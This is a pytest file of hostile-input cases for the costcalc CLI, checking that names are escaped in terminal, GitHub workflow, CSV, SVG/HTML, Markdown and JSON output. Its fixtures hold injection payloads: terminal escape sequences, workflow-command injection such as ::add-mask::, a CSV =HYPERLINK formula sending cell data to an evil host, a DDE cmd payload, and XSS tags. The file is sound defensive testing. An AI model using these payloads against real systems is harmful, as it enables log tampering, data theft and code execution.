"""The hostile-input corpus, outputs: names written to attack the place costcalc's output goes (issue 12,
"Injection through outputs"), each run as its own process by ``tests/hostile.py``.

A name from a spec, a convention, device or budgets file holds what a sink would obey — an escape sequence
for the terminal, a line that is a GitHub workflow command, a formula for a spreadsheet, a control character
that breaks XML, a pipe or a tag for Markdown — and each case says what must come out (``stdout``: the
name, escaped for the sink) and what must not (``forbid``: the raw attack). The harness checks, beyond that,
that stderr holds no control character and that the run stays under its CPU and memory limits. Some cases
also read stdout with a real parser (``READERS``: XML for SVG, the Markdown table's cell count, the runner's
reading of workflow commands); the property test in ``test_output_escaping.py`` does so for every format.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from hostile import Case, Outcome, check, ids
from sink_readers import check_csv, check_markdown, check_svg, workflow_commands

ESC = "\x1b"


def quoted(text: str) -> str:
    """``text`` as a YAML double-quoted string: any character can be written, as an escape."""
    return '"' + "".join(c if c.isprintable() and c not in '"\\' else f"\\U{ord(c):08x}" for c in text) + '"'


def spec(name: str = "net", layer: str = "conv_a", description: str = "d", reference: str = "r",
         instance: str = "inner") -> str:
    """A small spec with the given name, description, reference, first layer name and block instance name."""
    return (f"version: 1\nname: {quoted(name)}\ndescription: {quoted(description)}\nreference: {quoted(reference)}\n"
            "input: {channels: 3, size: 16}\n"
            "blocks:\n  blk:\n    layers:\n      - conv: {kernel: 1, filters: 4}\n"
            f"layers:\n  - conv: {{kernel: 3, filters: 8, stride: 2, name: {quoted(layer)}}}\n"
            "  - separable: {kernel: 3, filters: 8}\n"
            f"  - blk: {{name: {quoted(instance)}}}\n"
            "  - global_avg_pool\n  - fc: {units: 10, fixed: true}\n")


def budgets(message: str) -> str:
    """A budgets file whose one check, of net.yaml, fails with ``message``."""
    return f"checks:\n  - spec: ./net.yaml\n    max_mult_adds: 1000\n    message: {quoted(message)}\n"


CONVENTION = ('name: "ev\\u001b[31mil|`\\n::add-mask::c"\ndescription: "=desc \\u001b]8;;http://x\\u001b\\\\link"\n'
              'tool: "@tool [bold]x[/bold]"\nsource: "-src"\nmult_adds: {weight_macs: 2}\nparams: [weights]\n')
DEVICE = ('name: "dev [link=http://evil]x[/link] \\u001b[2J"\ndescription: d\npeak_mult_adds_per_s: 1e12\n'
          'bandwidth_bytes_per_s: 1e10\nsource: s\n')

# A line the GitHub runner reads as a command other than costcalc's ::error: the `::` form (after leading
# white space) or the legacy `##[` form anywhere in a line.
OTHER_COMMAND = r"(^\s*::(?!error file=))|##\["


def _svg(outcome: Outcome, folder: Path) -> None:
    check_svg(outcome.stdout)


def _markdown(outcome: Outcome, folder: Path) -> None:
    check_markdown(outcome.stdout)


def _csv(outcome: Outcome, folder: Path) -> None:
    check_csv(outcome.stdout)


def _one_annotation(outcome: Outcome, folder: Path) -> None:
    """The runner reads one command in the output: costcalc's ::error."""
    assert [name for name, _properties, _data in workflow_commands(outcome.stdout)] == ["error"]


def _commands_and_summary(outcome: Outcome, folder: Path) -> None:
    """Only costcalc's one annotation, and a step summary that is Markdown with the name escaped."""
    _one_annotation(outcome, folder)
    summary = (folder / "summary.md").read_text(encoding="utf-8")
    check_markdown(summary)
    assert "| `` x\\n:\\:add-mask:\\:secret\\|` `` |" in summary, summary


CASES = [
    # --- the terminal: escape sequences and control characters shown, never sent -------------------------
    Case("table-csi-colour-in-layer-name", ("report", "net.yaml"), exit=0,
         files={"net.yaml": spec(layer=f"conv{ESC}[31mred")}, stdout=r"conv\\x1b\[31mred", forbid=ESC),
    Case("table-osc-title-in-spec-name", ("report", "net.yaml"), exit=0,
         files={"net.yaml": spec(name=f"{ESC}]0;pwned\x07")}, stdout=r"\\x1b\]0;pwned\\x07", forbid="[\x1b\x07]"),
    Case("table-osc8-hyperlink-in-description", ("report", "net.yaml"), exit=0,
         files={"net.yaml": spec(description=f"{ESC}]8;;http://evil{ESC}\\click{ESC}]8;;{ESC}\\")},
         stdout=r"\\x1b\]8;;http://evil\\x1b\\click", forbid=ESC),
    Case("table-clear-screen-in-reference", ("report", "net.yaml"), exit=0,
         files={"net.yaml": spec(reference=f"{ESC}[2J{ESC}[H")}, stdout=r"\(\\x1b\[2J\\x1b\[H\)", forbid=ESC),
    Case("table-c1-csi-and-del-in-layer-name", ("report", "net.yaml"), exit=0,
         files={"net.yaml": spec(layer="a\x9b2Jb\x7f")}, stdout=r"a\\x9b2Jb\\x7f", forbid="[\x9b\x7f]"),
    Case("table-newline-in-layer-name-stays-on-its-row", ("report", "net.yaml"), exit=0,
         files={"net.yaml": spec(layer="a\nTotal 0")}, stdout=r"^ +1 +a\\nTotal 0 ", forbid=r"^Total 0"),
    Case("table-bidi-override-in-instance-name", ("report", "net.yaml"), exit=0,
         files={"net.yaml": spec(instance="\u202etxt.exe")}, stdout=r"\\u202etxt\.exe", forbid="\u202e"),
    Case("table-rich-markup-in-layer-name-is-text", ("report", "net.yaml"), exit=0,
         files={"net.yaml": spec(layer="[link=http://evil]x[/link][dw]")},
         stdout=r"\[link=http://evil\]x\[/link\]\[dw\]"),
    Case("table-rich-markup-in-device-name-is-text", ("report", "net.yaml", "--device", "dev.yaml"), exit=0,
         files={"net.yaml": spec(), "dev.yaml": DEVICE}, stdout=r"Time by kind on dev \[link=http://evil\]x\[/link\]",
         forbid=ESC),
    # a name of 100,000 characters in words: rich folded it in every cell of every stacked part, for seconds (the
    # 2 s CPU limit is the check); the cell shows its start and end around the count of what it leaves out
    Case("table-a-100000-character-layer-name-is-shortened", ("report", "net.yaml"), exit=0,
         files={"net.yaml": spec(layer="in + " * 20_000)}, stdout=r"…\[99,8\d\d"),
    Case("table-a-100000-character-block-name-is-shortened", ("report", "net.yaml", "--all-layers"), exit=0,
         files={"net.yaml": spec(instance="in + " * 20_000)}, stdout=r"…\[99,8\d\d"),
    Case("compare-table-csi-in-spec-name", ("compare", "net.yaml", "mobilenet_v1"), exit=0,
         files={"net.yaml": spec(name=f"n{ESC}[8m")}, stdout=r"with n\\x1b\[8m \(the baseline\)", forbid=ESC),
    Case("sweep-table-csi-in-spec-name", ("sweep", "net.yaml", "--alpha", "1", "--resolution", "16"), exit=0,
         files={"net.yaml": spec(name=f"n{ESC}[8m")}, stdout=r"^n\\x1b\[8m — ", forbid=ESC),
    Case("solve-text-csi-in-spec-name", ("solve", "net.yaml", "--max-mult-adds", "1G"), exit=0,
         files={"net.yaml": spec(name=f"n{ESC}[8m")}, stdout=r"^n\\x1b\[8m: the largest alpha", forbid=ESC),
    Case("solve-nothing-fits-message-on-stderr", ("solve", "net.yaml", "--max-mult-adds", "1"), exit=1,
         files={"net.yaml": spec(name=f"n{ESC}[8m\n##[add-mask]s")},
         stderr=r"^costcalc: n\\x1b\[8m\\n##\\\[add-mask\]s: no width", forbid=ESC + r"|##\["),
    Case("explain-text-convention-file-names", ("explain", "net.yaml", "--convention", "conv.yaml"), exit=0,
         files={"net.yaml": spec(), "conv.yaml": CONVENTION}, stdout=r"Why ev\\x1b\[31mil\|`\\n:\\:add-mask:\\:c and paper",
         forbid=ESC),
    Case("check-text-csi-in-message", ("check",), exit=1,
         files={"net.yaml": spec(), "costcalc.yaml": budgets(f"{ESC}[2Jover")}, stdout=r"^    \\x1b\[2Jover$",
         forbid=ESC),
    Case("diagnostic-quotes-a-legacy-command", ("report", "bad.yaml"), exit=2,
         files={"bad.yaml": 'version: 1\nname: t\ninput: {channels: 3, size: 8}\nlayers:\n  - "##[add-mask]x": {}\n'},
         stderr=r"unknown layer kind '##\\\[add-mask\]x'", forbid=r"##\["),
    Case("diagnostic-path-starts-with-a-command", ("check", "--config", "::add-mask::c.yaml"), exit=2,
         files={"::add-mask::c.yaml": "checks: 5\n"}, stderr=r"^:\\:add-mask:\\:c\.yaml:1:\d+: error\[E5\d\d\]",
         forbid=r"^\s*::"),
    # --- GitHub workflow commands: only costcalc's ::error annotations -----------------------------------
    Case("github-add-mask-in-spec-name", ("check", "--format", "github"), exit=1,
         files={"net.yaml": spec(name="x\n::add-mask::secret"), "costcalc.yaml": budgets("m")},
         stdout=r"^::error file=costcalc\.yaml,line=3,col=\d+,title=costcalc%3A x\\n%3A\\%3Aadd-mask%3A\\%3Asecret ",
         forbid=OTHER_COMMAND),
    Case("github-stop-commands-in-message", ("check", "--format", "github"), exit=1,
         files={"net.yaml": spec(), "costcalc.yaml": budgets("over\n::stop-commands::tok\n::tok::")},
         stdout=r"^    over\\n:\\:stop-commands:\\:tok\\n:\\:tok:\\:$", forbid=OTHER_COMMAND),
    Case("github-message-that-is-a-command-on-its-own-line", ("check", "--format", "github"), exit=1,
         files={"net.yaml": spec(), "costcalc.yaml": budgets("::error file=x::fake")},
         stdout=r"^    :\\:error file=x:\\:fake$", forbid=OTHER_COMMAND),
    Case("github-legacy-command-in-message", ("check", "--format", "github"), exit=1,
         files={"net.yaml": spec(), "costcalc.yaml": budgets("see ##[add-mask]secret")},
         stdout=r"see ##\\\[add-mask\]secret", forbid=OTHER_COMMAND),
    Case("github-carriage-return-in-message", ("check", "--format", "github"), exit=1,
         files={"net.yaml": spec(), "costcalc.yaml": budgets("a\r::set-output name=x::y")},
         stdout=r"a\\r:\\:set-output name=x:\\:y", forbid=OTHER_COMMAND + "|\r"),
    Case("github-percent-escapes-in-message-stay-literal", ("check", "--format", "github"), exit=1,
         files={"net.yaml": spec(), "costcalc.yaml": budgets("100%0A::add-mask::x")},
         stdout=r"^::error .*100%250A:\\:add-mask:\\:x$", forbid=OTHER_COMMAND),
    Case("github-step-summary-is-escaped-markdown", ("check", "--format", "github"), exit=1,
         files={"net.yaml": spec(name="x\n::add-mask::secret|`"), "costcalc.yaml": budgets("m")},
         env={"GITHUB_STEP_SUMMARY": "summary.md"}, forbid=OTHER_COMMAND),
    # --- CSV: no cell a spreadsheet would run as a formula ----------------------------------------------
    Case("csv-hyperlink-formula-in-layer-name", ("report", "net.yaml", "--format", "csv"), exit=0,
         files={"net.yaml": spec(layer='=HYPERLINK("http://evil/?"&A1,"x")')}, stdout=r"""^"'=HYPERLINK\(""http""",
         forbid=r'^"?='),
    Case("csv-dde-command-in-instance-name", ("report", "net.yaml", "--format", "csv"), exit=0,
         files={"net.yaml": spec(instance="+cmd|' /C calc'!A0")}, stdout=r",'\+cmd\|' /C calc'!A0,\d",
         forbid=r",\+cmd"),
    Case("csv-at-and-minus-in-layer-names", ("report", "net.yaml", "--format", "csv"), exit=0,
         files={"net.yaml": spec(layer="@SUM(A1:A9)", instance="-2+3")}, stdout=r"^'@SUM\(A1:A9\),",
         forbid=r"^@|,-2\+3"),
    Case("csv-formula-after-a-semicolon", ("report", "net.yaml", "--format", "csv"), exit=0,
         files={"net.yaml": spec(layer="a;=1+1")}, stdout=r"^a;'=1\+1,", forbid=r";="),
    Case("csv-leading-tab-and-carriage-return", ("report", "net.yaml", "--format", "csv"), exit=0,
         files={"net.yaml": spec(layer="\t=1", instance="\r=2")}, stdout=r"^\\t=1,", forbid="[\t\r]"),
    Case("compare-csv-formula-in-spec-name", ("compare", "net.yaml", "mobilenet_v1", "--format", "csv"), exit=0,
         files={"net.yaml": spec(name="=1+1")}, stdout=r"^total,total,0,net\.yaml,'=1\+1,", forbid=r",=1"),
    # --- SVG and HTML: valid XML, names escaped and visible ----------------------------------------------
    Case("svg-control-characters-in-names", ("report", "net.yaml", "--format", "svg"), exit=0,
         files={"net.yaml": spec(name=f"n{ESC}[31m\x00\x08", layer="l\x0b\x0c\x1f")}, stdout=r"n\\x1b\[31m\\x00\\x08",
         forbid="[\x00-\x08\x0b\x0c\x0e-\x1f]"),
    Case("svg-noncharacters-in-description", ("report", "net.yaml", "--format", "svg"), exit=0,
         files={"net.yaml": spec(description="d\ufffe\uffff\U0010ffff")}, stdout=r"d\\ufffe\\uffff\\U0010ffff",
         forbid="[\ufffe\uffff]"),
    Case("svg-title-and-tags-in-spec-name", ("report", "net.yaml", "--format", "svg"), exit=0,
         files={"net.yaml": spec(name="</text><script>alert(1)</script>\x1b")}, stdout=r"&lt;/text&gt;&lt;script&gt;",
         forbid=r"<script"),
    Case("sweep-svg-control-in-spec-name",
         ("sweep", "net.yaml", "--alpha", "1", "--resolution", "16", "--format", "svg"), exit=0,
         files={"net.yaml": spec(name="s\x1b\x01")}, stdout=r"s\\x1b\\x01", forbid="[\x1b\x01]"),
    Case("compare-svg-control-in-spec-name", ("compare", "net.yaml", "mobilenet_v1", "--format", "svg"), exit=0,
         files={"net.yaml": spec(name="c\x1b\x02")}, stdout=r"c\\x1b\\x02", forbid="[\x1b\x02]"),
    Case("html-tag-in-layer-name", ("report", "net.yaml", "--format", "html"), exit=0,
         files={"net.yaml": spec(layer="<img src=x onerror=alert(1)>")},
         stdout=r"&lt;img src=x onerror=alert\(1\)&gt;", forbid=r"<img"),
    # --- Markdown: one row per row, one cell per cell, no tag ---------------------------------------------
    Case("markdown-pipe-and-backtick-in-layer-name", ("report", "net.yaml", "--format", "markdown"), exit=0,
         files={"net.yaml": spec(layer="a|b`c")}, stdout=r"\| ``a\\\|b`c`` \|"),
    Case("markdown-newline-in-description-stays-in-the-heading", ("report", "net.yaml", "--format", "markdown"),
         exit=0, files={"net.yaml": spec(description="d\n# Fake heading\n| a | b |")},
         stdout=r"^### net — d\\\\n# Fake heading\\\\n\\\| a \\\| b \\\|$", forbid=r"^# Fake|^\| a \| b \|$"),
    Case("markdown-image-and-html-in-description", ("compare", "net.yaml", "mobilenet_v1", "--format", "markdown"),
         exit=0, files={"net.yaml": spec(description="![x](http://evil/p.png)<img src=http://evil>")},
         stdout=r"!\\\[x\\\]\(http://evil/p\.png\)&lt;img", forbid=r"<img|!\[x\]"),
    Case("check-markdown-message-and-spec-name", ("check", "--format", "markdown"), exit=1,
         files={"net.yaml": spec(name="n|m"), "costcalc.yaml": budgets("> q\n<b>x</b> | y")},
         stdout=r"^> \\> q\\\\n&lt;b>x&lt;/b> \\\| y$", forbid=r"<b>"),
    Case("sweep-markdown-pipe-in-spec-name", ("sweep", "net.yaml", "--alpha", "1", "--format", "markdown"), exit=0,
         files={"net.yaml": spec(name="a|b\n|---|")}, stdout=r"^### a\\\|b\\\\n\\\|---\\\|: Mult-Adds",
         forbid=r"^\|---\|$"),
    Case("explain-markdown-convention-name",
         ("explain", "net.yaml", "--convention", "conv.yaml", "--format", "markdown"), exit=0,
         files={"net.yaml": spec(), "conv.yaml": CONVENTION}, stdout=r"^\| ev\\\\x1b\\\[31mil\\\|\\`",
         forbid=ESC),
    # --- JSON: valid UTF-8, no control character on the screen --------------------------------------------
    Case("json-c1-and-bidi-in-names", ("report", "net.yaml", "--format", "json"), exit=0,
         files={"net.yaml": spec(name="a\x9b2J", layer="\u202eb")}, stdout=r'"name": "a\\u009b2J"',
         forbid="[\x9b\u202e]"),
    # --- a terminal that is a CI log: no name makes a line of report, check or JSON a workflow command ---------
    Case("ci-log-table-spec-name-is-a-command", ("report", "net.yaml"), exit=0,
         stdout=r"^:\\:add-mask:\\:x", forbid=OTHER_COMMAND, files={"net.yaml": spec(name="::add-mask::x")}),
    # a renderer wraps a long name at a space (the memory line, a narrow table): the `::` inside the name then
    # starts a line, so the terminal sink breaks every `::`, not only a leading one
    *(Case(f"ci-log-wrapped-layer-name-at-{width}-columns", ("report", "net.yaml", "--all-layers"), exit=0,
           env={"COLUMNS": str(width)}, stdout=r":\\:error:\\:zz", forbid=OTHER_COMMAND,
           files={"net.yaml": spec(layer="a  ::warning:: bb ::error::zz")}) for width in (40, 60, 80)),
    Case("ci-log-table-legacy-command-in-layer-name", ("report", "net.yaml"), exit=0,
         stdout=r"##\\\[error\]pwn", forbid=OTHER_COMMAND, files={"net.yaml": spec(layer="##[error]pwn")}),
    Case("ci-log-check-text-spec-name-is-a-command", ("check", "--format", "text"), exit=1,
         stdout=r"^:\\:stop-commands:\\:tok ", forbid=OTHER_COMMAND,
         files={"net.yaml": spec(name="::stop-commands::tok"), "costcalc.yaml": budgets("over")}),
    Case("ci-log-json-legacy-command-in-description", ("report", "net.yaml", "--format", "json"), exit=0,
         stdout=r'"description": "##\\u005badd-mask\]x"', forbid=OTHER_COMMAND,
         files={"net.yaml": spec(description="##[add-mask]x")}),
]

READERS: dict[str, Callable[[Outcome, Path], None]] = {
    "svg-control-characters-in-names": _svg,
    "svg-noncharacters-in-description": _svg,
    "svg-title-and-tags-in-spec-name": _svg,
    "sweep-svg-control-in-spec-name": _svg,
    "compare-svg-control-in-spec-name": _svg,
    "markdown-pipe-and-backtick-in-layer-name": _markdown,
    "check-markdown-message-and-spec-name": _markdown,
    "markdown-newline-in-description-stays-in-the-heading": _markdown,
    "markdown-image-and-html-in-description": _markdown,
    "sweep-markdown-pipe-in-spec-name": _markdown,
    "explain-markdown-convention-name": _markdown,
    "csv-hyperlink-formula-in-layer-name": _csv,
    "csv-dde-command-in-instance-name": _csv,
    "csv-at-and-minus-in-layer-names": _csv,
    "csv-formula-after-a-semicolon": _csv,
    "csv-leading-tab-and-carriage-return": _csv,
    "compare-csv-formula-in-spec-name": _csv,
    "github-step-summary-is-escaped-markdown": _commands_and_summary,
    **{case: _one_annotation for case in ("github-add-mask-in-spec-name", "github-stop-commands-in-message",
                                          "github-message-that-is-a-command-on-its-own-line",
                                          "github-legacy-command-in-message", "github-carriage-return-in-message",
                                          "github-percent-escapes-in-message-stay-literal")},
}


@pytest.mark.parametrize("case", CASES, ids=ids(CASES))
def test_hostile_output(case: Case, tmp_path: Path) -> None:
    outcome = check(case, tmp_path)
    reader = READERS.get(case.id)
    if reader is not None:
        reader(outcome, tmp_path)
